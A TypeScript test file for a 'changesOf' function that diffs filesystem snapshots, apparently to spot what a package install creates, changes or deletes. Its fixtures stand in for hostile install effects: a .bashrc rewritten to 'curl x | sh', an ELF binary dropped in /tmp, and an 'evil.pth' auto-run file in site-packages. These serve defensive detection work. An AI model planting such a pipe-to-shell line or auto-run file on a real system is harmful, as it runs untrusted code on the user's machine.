import { describe, expect, it } from 'vitest'
import type { Listed } from './cell/cell.ts'
import { changesOf } from './disk.ts'

const file = (path: string, sha256: string, more: Partial<Listed> = {}): Listed => ({ path, kind: 'file', size: 5, mode: 0o644, changed: '1', inode: '1', sha256, ...more })
const disk = (contents: Record<string, string>) => ({ read: async (paths: readonly string[]) => paths.map((path) => (Object.hasOwn(contents, path) ? Buffer.from(contents[path] as string, 'latin1') : null)) })

describe('changesOf', () => {
  it('tells what was made, changed and removed, and reads what is told of', async () => {
    const before = [file('/h/.bashrc', 'a'), file('/h/same', 's'), file('/h/gone', 'g'), file('/h/big', '', { sha256: null })]
    const after = [file('/h/.bashrc', 'b'), file('/h/same', 's', { changed: '2' }), file('/tmp/new', 'n', { mode: 0o755 }), file('/h/big', '', { sha256: null, changed: '2' })]
    const changes = await changesOf(disk({ '/h/.bashrc': 'curl x | sh', '/tmp/new': '\u007fELF\u0000' }), before, after, new Set())
    expect(changes.map(({ path, what, content }) => [path, what, content && Buffer.from(content).toString('latin1')])).toEqual([
      ['/h/.bashrc', 'changed', 'curl x | sh'], ['/tmp/new', 'created', '\u007fELF\u0000'], ['/h/big', 'changed', null], ['/h/gone', 'deleted', null],
    ])
  })

  it('reads neither what the package consists of, nor what is installed, nor data; but what starts by itself', async () => {
    const after = [
      file('/h/p/node_modules/x/index.js', 'own'), file('/h/p/node_modules/y/index.js', 'other'), file('/h/p/copy.js', 'own'), file('/h/p/image.png', 'i'),
      file('/h/p/.venv/lib/python3.11/site-packages/evil.pth', 'e'), file('/h/p/.venv/lib/python3.11/site-packages/six/moves.py', 'm'), file('/h/link', 'l', { kind: 'link', sha256: null }),
    ]
    const all = Object.fromEntries(after.map(({ path }) => [path, path.endsWith('.png') ? 'PNG\u0000' : 'text']))
    const changes = await changesOf(disk(all), [], after, new Set(['own']))
    expect(changes.filter(({ content }) => content !== null).map(({ path }) => path)).toEqual(['/h/p/.venv/lib/python3.11/site-packages/evil.pth'])
    expect(changes).toHaveLength(after.length)
  })

  it('stays within bounds, what is installed left out first', async () => {
    const after = [...Array.from({ length: 30_000 }, (_, n) => file(`/h/node_modules/${n}`, `${n}`)), file('/h/late', 'x')]
    const changes = await changesOf(disk({}), [], after, new Set())
    expect(changes).toHaveLength(20_000)
    expect(changes[0]?.path).toBe('/h/late')
  })

  it('tells what is gone or changed before what was made, however much that is', async () => {
    const changes = await changesOf(disk({}), [file('/h/gone', 'g'), file('/h/.bashrc', 'a')], [file('/h/.bashrc', 'b'), ...Array.from({ length: 30_000 }, (_, n) => file(`/tmp/${n}`, `${n}`))], new Set())
    expect(changes).toHaveLength(20_000)
    expect(changes.slice(0, 2).map(({ path, what }) => `${what} ${path}`)).toEqual(['changed /h/.bashrc', 'deleted /h/gone'])
  })
})
